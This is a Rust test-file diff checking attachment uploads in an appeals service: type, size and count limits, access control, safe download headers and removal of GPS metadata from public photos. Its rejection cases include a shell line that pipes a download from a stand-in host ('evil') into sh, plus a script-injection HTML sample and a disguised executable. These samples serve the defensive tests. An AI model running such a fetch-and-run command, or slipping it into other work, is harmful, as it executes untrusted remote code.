@@ -14,6 +14,8 @@ use reqwest::StatusCode;
 use reqwest::redirect::Policy;
 
 const PASSWORD: &str = "correct horse";
+/// The largest attached file the test server takes (its limit of three files each).
+const FILE_LIMIT: u64 = 256 * 1024;
 
 struct App {
     base: String,
@@ -122,7 +124,14 @@ async fn app(name: &str) -> App {
         .await
         .expect("bind");
     let base = format!("http://{}", listener.local_addr().expect("addr"));
-    let state = AppState::new(minsheng_app::App::new(store.clone()));
+    let files = minsheng_app::attachments::FileRules {
+        blobs: minsheng_store::Blobs::new(dir.join("files")),
+        limits: minsheng_core::attachment::Limits {
+            max_bytes: FILE_LIMIT,
+            max_files: 3,
+        },
+    };
+    let state = AppState::new(minsheng_app::App::new(store.clone()).with_files(files));
     tokio::spawn(async move { axum::serve(listener, minsheng_web::router(state)).await });
     let client = reqwest::Client::builder()
         .redirect(Policy::none())
@@ -3587,4 +3596,399 @@ async fn open311_clients_discover_post_and_read_requests_in_json_and_xml() {
             .first_bad
             .is_none()
     );
+}
+
+/// A file made for the core's tests (see its fixtures' README).
+fn fixture(name: &str) -> Vec<u8> {
+    std::fs::read(format!(
+        "{}/../minsheng-core/tests/fixtures/{name}",
+        env!("CARGO_MANIFEST_DIR")
+    ))
+    .expect(name)
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    hay.windows(needle.len()).any(|w| w == needle)
+}
+
+impl App {
+    /// Posts a multipart form with files (name, content) as `media` parts.
+    async fn post_files(
+        &self,
+        path: &str,
+        cookie: &str,
+        fields: &[(&str, &str)],
+        files: &[(&str, Vec<u8>)],
+    ) -> reqwest::Response {
+        let mut form = reqwest::multipart::Form::new();
+        for (k, v) in fields {
+            form = form.text(k.to_string(), v.to_string());
+        }
+        for (name, bytes) in files {
+            form = form.part(
+                "media",
+                reqwest::multipart::Part::bytes(bytes.clone()).file_name(name.to_string()),
+            );
+        }
+        self.client
+            .post(format!("{}{path}", self.base))
+            .header("cookie", cookie)
+            .multipart(form)
+            .send()
+            .await
+            .expect("post")
+    }
+
+    /// A GET with headers: status, headers and bytes.
+    async fn get_bytes(
+        &self,
+        path: &str,
+        auth: (&str, &str),
+    ) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
+        let r = self
+            .client
+            .get(format!("{}{path}", self.base))
+            .header(auth.0, auth.1)
+            .send()
+            .await
+            .expect("get");
+        let headers = r.headers().clone();
+        (r.status(), headers, r.bytes().await.expect("body").to_vec())
+    }
+}
+
+#[tokio::test]
+async fn files_are_taken_by_content_kept_and_shown_only_to_those_allowed() {
+    let app = app("files").await;
+    let photo = fixture("photo-gps.jpg");
+    let letter = fixture("letter.pdf");
+    let key = format!("{:032x}", rand::random::<u128>());
+    let mut fields = portal_form(&[("text", "路灯坏了，照片和信件附上")]);
+    fields.push(("submission_key", &key));
+
+    // The portal takes a photo and a scanned letter with the form.
+    let r = app
+        .post_files(
+            "/submit",
+            "",
+            &fields,
+            &[
+                ("路灯.jpg", photo.clone()),
+                ("C:\\扫描\\信件.pdf", letter.clone()),
+            ],
+        )
+        .await;
+    assert_eq!(
+        r.status(),
+        StatusCode::SEE_OTHER,
+        "{}",
+        r.text().await.unwrap_or_default()
+    );
+    let appeals = app.store.counts().await.expect("counts").appeals;
+    let location = r.headers()["location"].to_str().expect("ascii").to_owned();
+    let (_, receipt) = app.get(&location, "").await;
+    let no = between(&receipt, "data-test=\"appeal-no\">", "<");
+    let detail = app
+        .store
+        .appeal(
+            &minsheng_core::AppealNo::parse(&no).expect("no"),
+            &county_scope(),
+        )
+        .await
+        .expect("detail");
+    assert_eq!(detail.attachments.len(), 2);
+    assert_eq!(detail.attachments[0].file.content_type, "image/jpeg");
+    assert_eq!(detail.attachments[1].file.file_name, "信件.pdf");
+    let (photo_id, letter_id) = (detail.attachments[0].id, detail.attachments[1].id);
+
+    // Staff who may see the appeal see the files listed and get them as stored.
+    let admin = app.login("admin").await;
+    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
+    assert!(
+        page.contains("data-test=\"files\"")
+            && page.contains("路灯.jpg")
+            && page.contains("信件.pdf")
+    );
+    let (status, headers, body) = app
+        .get_bytes(
+            &format!("/staff/appeals/{no}/files/{photo_id}"),
+            ("cookie", &admin),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body, photo, "staff get the photo as taken, EXIF and all");
+    assert_eq!(headers["content-type"], "image/jpeg");
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    assert!(
+        headers["content-security-policy"]
+            .to_str()
+            .expect("ascii")
+            .contains("sandbox")
+    );
+    assert!(
+        headers["content-disposition"]
+            .to_str()
+            .expect("ascii")
+            .starts_with("inline;")
+    );
+    let (status, headers, body) = app
+        .get_bytes(
+            &format!("/staff/appeals/{no}/files/{letter_id}"),
+            ("cookie", &admin),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body, letter);
+    let disposition = headers["content-disposition"].to_str().expect("ascii");
+    assert!(
+        disposition.starts_with("attachment;"),
+        "a PDF is never shown inline: {disposition}"
+    );
+    assert!(
+        disposition.contains("filename*=UTF-8''%E4%BF%A1%E4%BB%B6.pdf"),
+        "{disposition}"
+    );
+    // Outside one's area, another appeal's file id, nobody signed in: nothing.
+    let other = app.login("slj.handler").await;
+    for (path, cookie) in [
+        (
+            format!("/staff/appeals/{no}/files/{photo_id}"),
+            other.as_str(),
+        ),
+        (format!("/staff/appeals/{no}/files/999999"), admin.as_str()),
+        (format!("/staff/appeals/{no}/files/abc"), admin.as_str()),
+    ] {
+        let (status, _, body) = app.get_bytes(&path, ("cookie", cookie)).await;
+        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
+        assert!(!contains(&body, &photo[..64]));
+    }
+    let (status, _, _) = app
+        .get_bytes(
+            &format!("/staff/appeals/{no}/files/{photo_id}"),
+            ("x-none", ""),
+        )
+        .await;
+    assert!(
+        status.is_redirection() || status == StatusCode::UNAUTHORIZED,
+        "{status}"
+    );
+
+    // Refused by content, count and size, beside the field; nothing is stored.
+    let script = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
+    let html = b"<html><script>alert(1)</script></html>".to_vec();
+    let mut big = b"%PDF-1.4\n".to_vec();
+    big.resize(FILE_LIMIT as usize + 1, b' ');
+    let four = vec![
+        ("1.jpg", photo.clone()),
+        ("2.jpg", photo.clone()),
+        ("3.jpg", photo.clone()),
+        ("4.jpg", photo.clone()),
+    ];
+    for (files, says) in [
+        (vec![("照片.jpg", script)], "只接受 JPEG"),
+        (vec![("photo.jpg", html)], "只接受 JPEG"),
+        (vec![("大文件.pdf", big)], "每个文件不能超过"),
+        (four, "最多附 3 个文件"),
+    ] {
+        let key = format!("{:032x}", rand::random::<u128>());
+        let mut fields = portal_form(&[]);
+        fields.push(("submission_key", &key));
+        let r = app.post_files("/submit", "", &fields, &files).await;
+        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+        let page = r.text().await.expect("page");
+        assert!(
+            page.contains("data-test=\"error-media\"") && page.contains(says),
+            "{says}"
+        );
+        assert!(page.contains("暖气不热"), "what was typed is kept");
+    }
+    // A body beyond every file at its largest is cut off before it is read.
+    let huge = vec![b'x'; 3 * FILE_LIMIT as usize + 2 * 1024 * 1024];
+    let r = app
+        .post_files("/submit", "", &portal_form(&[]), &[("huge.pdf", huge)])
+        .await;
+    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
+    // A file part under another name is not quietly dropped.
+    let r = app
+        .client
+        .post(format!("{}/submit", app.base))
+        .multipart(reqwest::multipart::Form::new().text("text", "x").part(
+            "avatar",
+            reqwest::multipart::Part::bytes(photo.clone()).file_name("a.jpg"),
+        ))
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
+    assert_eq!(app.store.counts().await.expect("counts").appeals, appeals);
+
+    // The JSON API: the same appeal JSON in a part named appeal, files as media.
+    let call = app.token("callcenter1").await;
+    let appeal = serde_json::json!({"text": "井盖丢了，见照片", "category": "chengxiang", "region": V11, "channel": "hotline", "external_id": "hotline-77"});
+    let r = app
+        .client
+        .post(format!("{}/api/v1/appeals", app.base))
+        .bearer_auth(&call)
+        .multipart(
+            reqwest::multipart::Form::new()
+                .text("appeal", appeal.to_string())
+                .part(
+                    "media",
+                    reqwest::multipart::Part::bytes(photo.clone()).file_name("井盖.jpg"),
+                ),
+        )
+        .send()
+        .await
+        .expect("post");
+    let status = r.status();
+    let created: serde_json::Value = r.json().await.expect("json");
+    assert_eq!(status, StatusCode::CREATED, "{created}");
+    let api_no = created["no"].as_str().expect("no").to_owned();
+    let (status, body) = app
+        .api(
+            reqwest::Method::GET,
+            &format!("/appeals/{api_no}"),
+            &call,
+            None,
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    let file = &body["attachments"][0];
+    assert_eq!(file["file_name"], "井盖.jpg");
+    assert_eq!(file["content_type"], "image/jpeg");
+    assert_eq!(file["size"], photo.len());
+    let url = file["url"].as_str().expect("url").to_owned();
+    let (status, _, bytes) = app
+        .get_bytes(&url, ("authorization", &format!("Bearer {call}")))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(bytes, photo);
+    let outsider = app.token("slj.handler").await;
+    let (status, _, _) = app
+        .get_bytes(&url, ("authorization", &format!("Bearer {outsider}")))
+        .await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    // A disguised file through the API: 422 in the one error shape, naming media.
+    let r = app
+        .client
+        .post(format!("{}/api/v1/appeals", app.base))
+        .bearer_auth(&call)
+        .multipart(
+            reqwest::multipart::Form::new()
+                .text(
+                    "appeal",
+                    appeal.to_string().replace("hotline-77", "hotline-78"),
+                )
+                .part(
+                    "media",
+                    reqwest::multipart::Part::bytes(b"MZ\x90\0".to_vec()).file_name("x.jpg"),
+                ),
+        )
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body: serde_json::Value = r.json().await.expect("json");
+    assert_eq!(body["error"]["fields"][0]["field"], "media", "{body}");
+    // No appeal part: named.
+    let r = app
+        .client
+        .post(format!("{}/api/v1/appeals", app.base))
+        .bearer_auth(&call)
+        .multipart(reqwest::multipart::Form::new().text("text", "x"))
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+
+    // Open311: a client sends its photo as media; the public sees it without the
+    // phone's position or make, the right way up.
+    let use_cases = minsheng_app::App::new(app.store.clone());
+    let (_, key) = use_cases.create_api_key(None, "随手拍").await.expect("key");
+    let r = app
+        .client
+        .post(format!("{}/open311/v2/requests.json", app.base))
+        .multipart(
+            reqwest::multipart::Form::new()
+                .text("api_key", key.clone())
+                .text("service_code", "chengxiang")
+                .text("address_id", V11)
+                .text("description", "人行道砖翘起来了")
+                .part(
+                    "media",
+                    reqwest::multipart::Part::bytes(photo.clone()).file_name("IMG_0001.JPG"),
+                ),
+        )
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), StatusCode::OK);
+    let posted: serde_json::Value = r.json().await.expect("json");
+    let id = posted[0]["service_request_id"]
+        .as_str()
+        .expect("id")
+        .to_owned();
+    let (_, _, body) = app.open311_get(&format!("requests/{id}.json")).await;
+    let request: serde_json::Value = serde_json::from_str(&body).expect("json");
+    let media_url = request[0]["media_url"]
+        .as_str()
+        .expect("media_url")
+        .to_owned();
+    assert!(
+        media_url.ends_with(&format!("/open311/v2/requests/{id}/media")),
+        "{media_url}"
+    );
+    let (status, headers, public) = app
+        .get_bytes(&format!("/open311/v2/requests/{id}/media"), ("x-none", ""))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(headers["content-type"], "image/jpeg");
+    assert!(
+        !contains(&public, b"PhoneMaker"),
+        "the camera's make is gone"
+    );
+    assert!(
+        !contains(&public, &[0x88, 0x25]) && !contains(&public, &[0x25, 0x88]),
+        "the GPS directory is gone"
+    );
+    assert!(
+        contains(&public, &[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]),
+        "the orientation is kept"
+    );
+    assert_eq!(
+        minsheng_core::attachment::check(&public, &minsheng_core::attachment::Limits::default()),
+        Ok(minsheng_core::attachment::FileKind::Jpeg)
+    );
+    // The portal's appeal (a heating complaint with a letter) is published too, but
+    // only its image is ever public; an appeal with no image has no media; a request
+    // that is not published has none either.
+    let (_, _, body) = app.open311_get(&format!("requests/{no}.json")).await;
+    let portal: serde_json::Value = serde_json::from_str(&body).expect("json");
+    assert!(portal[0]["media_url"].is_string(), "{portal}");
+    let (status, _, _) = app
+        .get_bytes(
+            &format!("/open311/v2/requests/{api_no}/media"),
+            ("x-none", ""),
+        )
+        .await;
+    assert_eq!(
+        status,
+        StatusCode::OK,
+        "a published API appeal shows its photo"
+    );
+    let (plain, _) = app.submit(&[]).await;
+    let (status, _, _) = app
+        .get_bytes(
+            &format!("/open311/v2/requests/{plain}/media"),
+            ("x-none", ""),
+        )
+        .await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    let (status, _, _) = app
+        .get_bytes("/open311/v2/requests/nonsense/media", ("x-none", ""))
+        .await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    // The files are on disk once each, named by their content.
+    let sha = &detail.attachments[0].file.sha256;
+    assert!(app.dir.join("files").join(&sha[..2]).join(sha).exists());
 }
